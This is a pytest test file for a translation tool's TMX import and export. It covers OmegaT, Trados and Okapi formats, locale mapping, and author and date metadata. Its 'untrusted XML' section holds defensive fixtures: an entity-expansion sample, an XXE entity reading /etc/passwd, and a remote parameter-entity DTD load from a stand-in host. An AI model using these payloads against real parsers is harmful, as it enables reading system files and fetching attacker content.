"""TMX as OmegaT, Trados and Okapi write it: read safely, mapped to the project's locales,
with who wrote each translation and when; and written back so those tools read it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from samples import GERMAN, OMEGAT_TMX, SENTENCE
from transflow.errors import InputError
from transflow.memory import TMEntry
from transflow.tmx import export_tmx, import_tmx, read_tmx, render_tmx

LOCALES = ["az", "de", "fr", "ru"]

# OmegaT's project memory (TMX 1.1) is OMEGAT_TMX in samples.py: test_cli_memory imports it too.

# OmegaT's "-level2.tmx" export: TMX 1.4 with its own DOCTYPE, xml:lang, tuid, and the
# tag shortcuts as TMX inline codes.
OMEGAT_14 = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4">
  <header creationtool="OmegaT" o-tmf="OmegaT TMX" adminlang="EN-US" datatype="plaintext"
    creationtoolversion="6.0.1" segtype="sentence" srclang="EN-US"/>
  <body>
    <tu tuid="appeal.md_17">
      <prop type="file">appeal.md</prop>
      <prop type="id">appeal.md_17</prop>
      <tuv xml:lang="EN-US">
        <seg><bpt i="0" x="0">&lt;g0&gt;</bpt>Dear<ept i="0">&lt;/g0&gt;</ept> Minister,</seg>
      </tuv>
      <tuv xml:lang="DE-DE" changeid="anna" changedate="20250302T101700Z">
        <seg><bpt i="0" x="0">&lt;g0&gt;</bpt>Werte<ept i="0">&lt;/g0&gt;</ept> Ministerin,</seg>
      </tuv>
    </tu>
  </body>
</tmx>
"""

# Trados Studio's TM export: UTF-8 with a BOM, who/when on the <tu> with a domain user,
# x- properties, empty inline codes, a language this project does not translate.
TRADOS = f"""\ufeff<?xml version="1.0" encoding="utf-8"?>
<tmx version="1.4">
  <header creationtool="SDL Language Platform" creationtoolversion="8.1" o-tmf="SDL TM8 Format"
    datatype="xml" segtype="sentence" adminlang="en-US" srclang="en-US"
    creationdate="20240110T080000Z" creationid="ORG\\admin">
    <prop type="x-Recognizers">RecognizeAll</prop>
    <prop type="x-TMName">appeals en-de</prop>
  </header>
  <body>
    <tu creationdate="20240115T143000Z" creationid="ORG\\k.meyer" changedate="20240220T091500Z"
      changeid="ORG\\l.schmidt" lastusagedate="20240301T120000Z" usagecount="3">
      <prop type="x-Context">0, 0</prop>
      <prop type="x-Origin">TM</prop>
      <prop type="x-ConfirmationLevel">Translated</prop>
      <tuv xml:lang="en-US">
        <seg>{SENTENCE}</seg>
      </tuv>
      <tuv xml:lang="de-DE">
        <seg>{GERMAN}</seg>
      </tuv>
    </tu>
    <tu creationdate="20240115T143100Z" creationid="ORG\\k.meyer">
      <tuv xml:lang="en-US">
        <seg>Read the <bpt i="1" type="1" x="1" />full report<ept i="1" /> here.</seg>
      </tuv>
      <tuv xml:lang="de-DE">
        <seg>Lesen Sie den <bpt i="1" type="1" x="1" />ganzen Bericht<ept i="1" /> hier.</seg>
      </tuv>
      <tuv xml:lang="ja-JP">
        <seg>報告書全文はこちら。</seg>
      </tuv>
    </tu>
  </body>
</tmx>
"""

# Okapi (Rainbow, Tikal): lower-case codes, a tuid, <ph> for native markup.
OKAPI = f"""<?xml version="1.0" encoding="UTF-8"?>
<tmx version="1.4"><header creationtool="okf_tmx" creationtoolversion="1.47.0"
 segtype="paragraph" o-tmf="unknown" adminlang="en" srclang="en-us" datatype="x-markdown">
</header><body>
<tu tuid="appeal_p4">
<prop type="Txt::FileName">appeal.md</prop>
<tuv xml:lang="en-us"><seg>{SENTENCE}<ph x="1">&lt;br/></ph>Free them.</seg></tuv>
<tuv xml:lang="fr-fr"><seg>Ils sont emprisonnés.<ph x="1">&lt;br/></ph>Libérez-les.</seg></tuv>
</tu>
</body></tmx>
"""


def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


# -- what the tools write ------------------------------------------------------------


def test_omegat_tmx_11_with_doctype_imports_with_who_and_when(tmp_path: Path) -> None:
    path = write(tmp_path, "project_save.tmx", OMEGAT_TMX)
    first, second = import_tmx(path, LOCALES)
    assert (first.source, first.target, first.locale) == (SENTENCE, GERMAN, "de")
    assert (first.created, first.created_by) == ("20250301T090000Z", "jonas")
    assert (first.changed, first.changed_by) == ("20250302T101500Z", "anna")
    # OmegaT's tag shortcuts never reach a catalog
    assert (second.source, second.target) == ("Dear Minister,", "Sehr geehrte Frau Ministerin,")
    assert second.created is None and second.changed_by == "anna"


def test_omegat_tmx_14_level2_imports_without_its_inline_codes(tmp_path: Path) -> None:
    path = write(tmp_path, "appeals-level2.tmx", OMEGAT_14)
    [entry] = import_tmx(path, LOCALES)
    assert (entry.source, entry.target, entry.locale) == (
        "Dear Minister,",
        "Werte Ministerin,",
        "de",
    )
    assert entry.origin == "tmx:appeals-level2.tmx#appeal.md_17"
    assert entry.changed == "20250302T101700Z"


def test_trados_tmx_keeps_tu_level_who_and_when(tmp_path: Path) -> None:
    path = write(tmp_path, "appeals en-de.tmx", TRADOS)
    content = read_tmx(path.read_bytes(), path, locales=LOCALES)
    first, second = content.entries
    assert (first.target, first.locale) == (GERMAN, "de")
    assert first.who == (
        "20240115T143000Z",
        "ORG\\k.meyer",
        "20240220T091500Z",
        "ORG\\l.schmidt",
    )
    assert second.source == "Read the full report here."
    assert second.target == "Lesen Sie den ganzen Bericht hier."
    assert second.who == ("20240115T143100Z", "ORG\\k.meyer", None, None)
    assert (content.units, content.other_languages) == (2, {"ja-JP"})


def test_utf16_tmx_as_older_trados_wrote_it(tmp_path: Path) -> None:
    text = OMEGAT_TMX.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    path = write(tmp_path, "workbench.tmx", text, encoding="utf-16")
    assert import_tmx(path, LOCALES)[0].target == GERMAN


def test_okapi_tmx_with_lower_case_codes_and_placeholders(tmp_path: Path) -> None:
    path = write(tmp_path, "okapi.tmx", OKAPI)
    [entry] = import_tmx(path, LOCALES)
    assert entry.locale == "fr" and entry.origin == "tmx:okapi.tmx#appeal_p4"
    assert entry.source == f"{SENTENCE}Free them."
    assert entry.target == "Ils sont emprisonnés.Libérez-les."


@pytest.mark.parametrize(
    ("lang", "locales", "expected"),
    [
        ("DE-DE", ["de", "fr"], "de"),  # the language alone
        ("de_AT", ["de"], "de"),  # underscore, any case
        ("pt-PT", ["pt-BR"], "pt-BR"),  # the one locale of that language
        ("pt-PT", ["pt-BR", "pt-PT"], "pt-PT"),  # the same tag wins
        ("zh-HK", ["zh-CN", "zh-TW"], None),  # ambiguous: skipped, not guessed
        ("az-Latn-AZ", LOCALES, "az"),
    ],
)
def test_language_codes_map_to_project_locales(
    tmp_path: Path, lang: str, locales: list[str], expected: str | None
) -> None:
    text = OKAPI.replace('xml:lang="fr-fr"', f'xml:lang="{lang}"')
    path = write(tmp_path, "codes.tmx", text)
    assert [e.locale for e in import_tmx(path, locales)] == ([expected] if expected else [])


def test_the_closest_variant_wins_when_a_unit_has_several(tmp_path: Path) -> None:
    text = OMEGAT_14.replace(
        '<tuv xml:lang="DE-DE"',
        '<tuv xml:lang="de-CH"><seg>Grüezi Frau Ministerin,</seg></tuv>\n<tuv xml:lang="de"',
    )
    path = write(tmp_path, "variants.tmx", text)
    assert [e.target for e in import_tmx(path, ["de"])] == ["Werte Ministerin,"]


def test_iso_dates_are_converted_and_a_non_date_is_refused(tmp_path: Path) -> None:
    text = OMEGAT_TMX.replace('"20250301T090000Z"', '"2025-03-01T10:00:00+01:00"')
    [first, _] = import_tmx(write(tmp_path, "iso.tmx", text), LOCALES)
    assert first.created == "20250301T090000Z"
    bad = write(tmp_path, "bad.tmx", OMEGAT_TMX.replace('"20250302T101500Z"', '"last Tuesday"'))
    with pytest.raises(InputError) as info:
        import_tmx(bad, LOCALES)
    assert str(info.value).startswith(f"{bad}:8: ") and "last Tuesday" in str(info.value)


# -- untrusted XML ---------------------------------------------------------------------

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&lol2;</seg></tuv>
<tuv xml:lang="de"><seg>x</seg></tuv></tu></body></tmx>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd" [
<!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&secret;</seg></tuv>
<tuv xml:lang="de"><seg>x</seg></tuv></tu></body></tmx>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE tmx [
<!ENTITY % remote SYSTEM "http://example.org/evil.dtd">
%remote;
]>
<tmx version="1.4"/>
"""


@pytest.mark.parametrize(
    ("content", "line", "words"),
    [
        (LAUGHS, 3, "<!ENTITY lol>"),
        (EXTERNAL, 3, "<!ENTITY secret>"),
        (PARAMETER, 3, "<!ENTITY remote>"),
        ('<tmx version="1.4">\n<body>\n<tu><tuv xml:lang="de">\n</tu>\n</body></tmx>', 4, "tag"),
        ('<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx>\n<body>&nbsp;</body></tmx>', 3, "&nbsp;"),
        ("<tmx>\n<body>\n<tu><tuv><seg>x</seg></tuv></tu></body></tmx>", 3, "xml:lang"),
        ('<xliff version="1.2"/>', 1, "not a TMX file"),
        # a terminal's CSI (C1 0x9b) or DEL went into memory/ and on into suggestions
        (
            '<tmx version="1.4">\n<body>\n<tu><tuv xml:lang="en"><seg>Bonn</seg></tuv>'
            '<tuv xml:lang="de"><seg>Bonn\x9b2J</seg></tuv></tu></body></tmx>',
            3,
            "control character \\x9b",
        ),
        (
            '<tmx version="1.4">\n<body>\n<tu><tuv xml:lang="en"><seg>Bonn\x7f</seg></tuv>'
            '<tuv xml:lang="de"><seg>Bonn</seg></tuv></tu></body></tmx>',
            3,
            "control character \\x7f",
        ),
    ],
)
def test_unsafe_or_malformed_tmx_is_a_one_line_error(
    tmp_path: Path, content: str, line: int, words: str
) -> None:
    path = write(tmp_path, "broken.tmx", content)
    with pytest.raises(InputError) as info:
        import_tmx(path)
    message = str(info.value)
    assert message.startswith(f"{path}:{line}: ") and words in message, message
    assert "\n" not in message and "root:" not in message  # /etc/passwd was never read


def test_a_tmx_in_another_source_language_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, "de-en.tmx", OMEGAT_TMX.replace('srclang="EN-US"', 'srclang="DE-DE"'))
    with pytest.raises(InputError, match="source language is 'DE-DE'"):
        import_tmx(path)


# -- writing ---------------------------------------------------------------------------


def test_round_trip_keeps_text_state_origin_and_who_and_when(tmp_path: Path) -> None:
    entries = [
        TMEntry(SENTENCE, "Mehr als 40 <sind> inhaftiert & ...", "de", "a.po#1", True),
        TMEntry(
            "Dear Minister,",
            "Monsieur le Ministre,",
            "fr",
            "tmx:old.tmx#4",
            False,
            created="20240115T143000Z",
            created_by="ORG\\k.meyer",
            changed="20240220T091500Z",
            changed_by="l.schmidt",
        ),
    ]
    path = tmp_path / "out.tmx"
    export_tmx(entries, path)
    text = path.read_text(encoding="utf-8")
    assert '<tmx version="1.4">' in text and 'srclang="en"' in text
    assert '<tu creationdate="20240115T143000Z" creationid="ORG\\k.meyer"' in text
    back = read_tmx(path.read_bytes(), path, own_origins=True).entries
    assert back == entries
    # another project reading the same file sees where it came from: this file
    assert {e.origin for e in import_tmx(path)} == {"tmx:out.tmx"}


def test_rewriting_a_memory_file_changes_no_byte(tmp_path: Path) -> None:
    """A memory file kept in git must not churn when transflow writes it again."""
    first = render_tmx(import_tmx(write(tmp_path, "t.tmx", TRADOS), LOCALES))
    again = write(tmp_path, "again.tmx", first.decode("utf-8"))
    assert render_tmx(read_tmx(again.read_bytes(), again, own_origins=True).entries) == first


def test_tmx_export_is_atomic_and_overwrites(tmp_path: Path) -> None:
    path = tmp_path / "memory.tmx"
    export_tmx([TMEntry(SENTENCE, "A", "de", "x")], path)
    export_tmx([TMEntry("Dear Minister,", "B", "de", "x")], path)
    assert [e.source for e in import_tmx(path)] == ["Dear Minister,"]
    assert [p.name for p in tmp_path.iterdir()] == ["memory.tmx"]
    assert oct(os.stat(path).st_mode & 0o777) == "0o644"
